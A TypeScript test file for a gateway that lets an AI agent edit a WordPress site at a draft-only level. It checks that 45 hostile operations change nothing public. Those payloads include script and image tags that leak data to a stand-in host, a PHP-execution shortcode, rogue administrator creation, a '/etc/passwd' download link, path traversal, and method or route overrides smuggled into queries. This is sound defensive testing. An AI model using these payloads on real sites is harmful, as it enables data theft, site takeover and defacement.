import { expect, test } from 'vitest';
import { startGateway } from '../support/gateway.ts';
import { basicAuth, useWordPress } from '../support/wordpress.ts';
import { connectAgent, insist } from './agent.ts';

const site = useWordPress({ testPlugins: true });
const SITE = { document: undefined, passthrough: false };
const LEAK = 'https://other.example/?d=secret';

/** Everything that a visitor can read, without what differs in each response. */
async function readPublic(url: string): Promise<Readonly<Record<string, string>>> {
  const types = 'posts pages media comments categories tags users blocks products types'.split(' ');
  const paths = [
    ...['/', '/feed/', '/comments/feed/', '/about/', '/2024/01/post-25/', '/?s=attack', '/?s=draft'],
    ...types.map((type) => `/wp-json/wp/v2/${type}?per_page=100`),
    ...['wp/v2/posts?search=attack', 'wp/v2/menu-items', 'wp/v2/settings', 'community/v1'].map(
      (path) => `/wp-json/${path}`,
    ),
  ];
  const read = async (path: string): Promise<readonly [string, string]> => {
    const response = await fetch(new URL(path, url));
    return [
      path,
      `${response.status} ${(await response.text()).replace(/<lastBuildDate>.*?<\/lastBuildDate>/g, '')}`,
    ];
  };
  return Object.fromEntries(await Promise.all(paths.map(read)));
}

test('at draft, an administrator whose client asks nobody makes nothing public, whatever a page asks for', async () => {
  const { url, users } = site();
  const gateway = await startGateway({ ...SITE, url, mcp: { writes: ['draft'], unasked: true } });
  const agent = await connectAgent(`${gateway.origin}/mcp`, basicAuth(users.administrator));
  const { call } = agent;
  await expect
    .poll(async () => (await call('search_operations', { query: 'posts' })).content)
    .toContain('listPosts');
  const headers = { authorization: basicAuth(users.administrator) };
  const [post] = await (await fetch(new URL('/wp-json/wp/v2/posts?per_page=1', url))).json();
  const [page] = await (await fetch(new URL('/wp-json/wp/v2/pages?per_page=1', url))).json();
  const [comment] = await (await fetch(new URL('/wp-json/wp/v2/comments?per_page=1', url))).json();
  const [media] = await (await fetch(new URL('/wp-json/wp/v2/media?per_page=1', url))).json();
  const created = await call('write_operation', {
    id: 'createPost',
    body: { title: 'A draft', content: 'One.' },
  });
  const { id } = JSON.parse(created.content);
  const draft = { id: 'updatePost', path: { id } };
  const before = await readPublic(url);

  const LINK =
    '<!-- wp:group {"style":{"background":{"backgroundImage":{"url":"https:/other.example/p"}}}} -->';
  const STYLE = '<!-- wp:group {"style":{"css":"&, body{display:none}"}} --><div></div><!-- /wp:group -->';
  const FOOTNOTES = `[{"content":"\\u003cimg src=${LEAK}>","id":"a"}]`;
  const PICTURE = { file: { name: 'attack.png', base64: 'aGk=' } };
  const user = { username: 'attack', email: 'a@example.com', password: 'attack', roles: ['administrator'] };
  const product = { title: 'attack', status: 'publish', downloads: [{ file: '/etc/passwd' }] };
  const publication = { method: 'POST', path: `/wp/v2/posts/${id}`, body: { status: 'publish' } };
  const publicPost = { id: 'updatePost', path: { id: post.id } };
  const past = '2020-01-01T00:00:00';
  const attacks: readonly Record<string, unknown>[] = [
    // Those of reports about this gateway and others.
    { id: 'createPost', body: { content: '<!-- wp:footnotes /-->', meta: { footnotes: FOOTNOTES } } },
    { id: 'createPost', body: { status: 'publish', content: `${LINK}<div></div><!-- /wp:group -->` } },
    { id: 'createPage', body: { content: STYLE } },
    { ...publicPost, body: { content: `<img src="/?add-to-cart=64"><script src="${LEAK}"></script>` } },
    { id: 'createPost', body: { content: '[insert_php]echo 1;[/insert_php]' } },
    { id: 'updateSettings', body: { title: 'attack' } },
    { id: 'deletePost', path: { id: post.id } },
    { id: 'createUser', body: user },
    { id: 'createUserApplicationPassword', path: { user_id: 1 }, body: { name: 'attack' } },
    { id: 'getUrlDetails', query: { url: LEAK } },
    // A draft that is published by another way than its status.
    { ...draft, body: { status: 'publish' } },
    { ...draft, query: { status: 'publish' } },
    { ...draft, body: { title: 'attack' }, query: { ' status': 'publish' } },
    { ...draft, body: { status: ['publish'] } },
    { ...draft, body: { status: 'future', date: past } },
    { ...draft, body: { date: past, sticky: true } },
    { ...draft, edit_text: { member: 'status', old: 'draft', new: 'publish' } },
    { ...draft, edit_text: { member: 'status', old: 'draft', new: 'trash' } },
    // A page hides the post of its slug where permalinks have no date.
    { id: 'createPage', body: { title: 'attack', slug: post.slug } },
    { id: 'createPage', body: { title: post.title.rendered, status: 'private' } },
    { ...draft, path: { id: `${id}/../${post.id}` }, body: { title: 'attack' } },
    { ...draft, body: { id: post.id, title: 'attack' } },
    { ...draft, query: { _method: 'DELETE' }, body: { title: 'attack' } },
    { ...draft, query: { rest_route: `/wp/v2/posts/${post.id}` }, body: { title: 'attack' } },
    // What is public, directly and by what belongs to it.
    { ...publicPost, edit_text: { member: 'title', old: post.title.rendered.slice(0, 1), new: 'attack' } },
    ...['private', 'draft', 'trash'].map((status) => ({ ...publicPost, body: { status } })),
    { id: 'updatePage', path: { id: page.id }, body: { template: 'attack', title: 'attack' } },
    { id: 'createPostAutosave', path: { id: post.id }, body: { content: 'attack' } },
    { id: 'createPostAutosave', path: { id }, body: { content: 'attack', status: 'publish' } },
    { id: 'createComment', body: { post: post.id, content: 'attack' } },
    { id: 'updateComment', path: { id: comment?.id ?? 1 }, body: { content: 'attack' } },
    { id: 'updateMedia', path: { id: media?.id ?? 1 }, body: { title: 'attack', alt_text: 'attack' } },
    { id: 'createMedia', body: { ...PICTURE, post: post.id } },
    { ...publicPost, body: { featured_media: PICTURE } },
    { ...publicPost, restore: post.id },
    { id: 'createTag', body: { name: 'attack' } },
    { id: 'updateCategory', path: { id: 1 }, body: { name: 'attack' } },
    { id: 'createBlock', body: { title: 'attack', content: 'attack', status: 'publish' } },
    { id: 'createNavigation', body: { title: 'attack', content: 'attack' } },
    { id: 'createMenu', body: { name: 'attack' } },
    { id: 'updateTemplate', path: { id: 'twentytwentyfour//index' }, body: { content: 'attack' } },
    { id: 'createPostTypeProduct', body: product },
    { id: 'runBatch', body: { requests: [publication] } },
  ];
  const outcomes: string[] = [];
  for (const args of attacks) {
    const tool = args['id'] === 'getUrlDetails' ? 'read_operation' : 'write_operation';
    const { text } = await insist(agent, tool, args);
    expect(text).not.toContain('no operation of this id');
    outcomes.push(
      text.startsWith('HTTP 20') ? 'stored' : text.startsWith('HTTP') ? 'refused by the site' : 'refused',
    );
  }
  expect(await readPublic(url)).toEqual(before);
  // Drafts with anything in them are stored; everything else is refused here, and the site is asked for nothing.
  expect(outcomes).not.toContain('refused by the site');
  const items = await (
    await fetch(new URL('/wp-json/wp/v2/posts?status=any&context=edit&per_page=100', url), { headers })
  ).json();
  const mine = items.filter((item: { author: number; id: number }) => item.id >= id);
  expect(mine.length).toBeGreaterThan(2);
  expect(mine.map((item: { status: string }) => item.status)).toEqual(mine.map(() => 'draft'));
  expect({ attacks: attacks.length, stored: outcomes.filter((each) => each === 'stored').length }).toEqual({
    attacks: 45,
    stored: 4,
  });
}, 120_000);

/** A picture of one pixel. */
const PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

test('at draft, a person gets a draft with its picture, and an earlier version of it', async () => {
  const { url, users } = site();
  const gateway = await startGateway({ ...SITE, url, mcp: { writes: ['draft'] } });
  const { call } = await connectAgent(`${gateway.origin}/mcp`, basicAuth(users.editor));
  await expect
    .poll(async () => (await call('search_operations', { query: 'posts' })).content)
    .toContain('listPosts');
  const picture = { file: { name: 'pixel.png', base64: PNG } };
  const body = { title: 'With a picture', content: '<p>One</p>', featured_media: picture };
  const created = await call('write_operation', { id: 'createPost', body });
  expect(created.text).toMatch(/^HTTP 201/);
  const { id, status } = JSON.parse(created.content);
  expect(status).toBe('draft');
  const fields = ['featured_media', 'content.raw'];
  const edit = { query: { context: 'edit' }, fields, raw: true };
  const update = { id: 'updatePost', path: { id } };
  const readPost = (): ReturnType<typeof call> =>
    call('read_operation', { id: 'getPost', path: { id }, ...edit });
  const read = await readPost();
  const { content, featured_media } = JSON.parse(read.content);
  expect({ content, featured_media }).toEqual({
    content: { raw: '<p>One</p>' },
    featured_media: expect.any(Number),
  });
  for (const text of ['<p>Two</p>', '<p>Three</p>']) {
    const if_match = /"if_match": "([^"]+)"/.exec((await readPost()).text)?.[1];
    const written = await call('write_operation', { ...update, body: { content: text }, if_match });
    expect(written.text).toBe('HTTP 200');
  }
  const revisions = await call('read_operation', {
    id: 'listPostRevisions',
    path: { parent: id },
    fields: ['id', 'content.raw'],
    query: { context: 'edit' },
    raw: true,
  });
  const two = JSON.parse(revisions.content).find(
    (each: { content: { raw: string } }) => each.content.raw === '<p>Two</p>',
  );
  expect((await call('write_operation', { ...update, restore: two.id })).text).toBe('HTTP 200');
  const last = await readPost();
  expect(JSON.parse(last.content).content.raw).toBe('<p>Two</p>');
}, 120_000);

/** `wp_old_slug_redirect()` and `redirect_guess_404_permalink()` lead from an address without an item to another item. */
test('at draft, no upload or draft takes an address that leads to a renamed post, or is guessed', async () => {
  const { url, users } = site();
  const authorization = basicAuth(users.administrator);
  const headers = { authorization, 'content-type': 'application/json' };
  const save = async (path: string, body: object): Promise<{ id: number; link: string }> =>
    (
      await fetch(new URL(`/wp-json/wp/v2/${path}`, url), {
        ...{ method: 'POST', headers, body: JSON.stringify(body) },
      })
    ).json();
  const renamed = await Promise.all(
    ['posts', 'pages'].map(async (type) => {
      const slug = `bank-details-${type}`;
      const { id, link } = await save(type, { title: 'Account', slug, status: 'publish' });
      await save(`${type}/${id}`, { slug: `account-${type}` });
      return link;
    }),
  );
  const { id: parent } = await save('posts', { title: 'Bills', slug: 'bills', status: 'publish' });
  const addresses = [
    ...renamed,
    ...['/bank-details-posts/', '/bank-details-pages/', '/bank-details/', '/account/', '/account-p/'],
    ...['/bank-details.png', '/bills/bank-details/', '/?name=bank-details', '/?attachment=bank-details'],
  ];
  const read = (): Promise<readonly (readonly [string, number, string | null])[]> =>
    Promise.all(
      addresses.map(async (address) => {
        const { headers: fields, status } = await fetch(new URL(address, url), { redirect: 'manual' });
        return [address, status, fields.get('location')] as const;
      }),
    );
  const before = await read();
  expect(before.some(([, status]) => status === 301)).toBe(true);

  const gateway = await startGateway({ ...SITE, url, mcp: { writes: ['draft'], unasked: true } });
  const { call } = await connectAgent(`${gateway.origin}/mcp`, authorization);
  await expect
    .poll(async () => (await call('search_operations', { query: 'posts' })).content)
    .toContain('listPosts');
  const base64 =
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
  const results: string[] = [];
  for (const name of ['bank-details', 'bank-details-posts', 'bank-details-pages', 'account', 'account-p']) {
    const file = { name: `${name}.png`, base64 };
    const bodies: readonly (readonly [string, object])[] = [
      ['createMedia', { file, title: name, alt_text: name }],
      ['createMedia', { file, post: parent }],
      ['createPost', { title: name, slug: name }],
      ['createPost', { title: name, featured_media: { file } }],
      ['createPage', { title: name }],
    ];
    for (const [id, body] of bodies) results.push((await call('write_operation', { id, body })).text);
  }
  expect(results.filter((text) => text.startsWith('HTTP 201')).length).toBeGreaterThan(10);
  expect(await read()).toEqual(before);
});
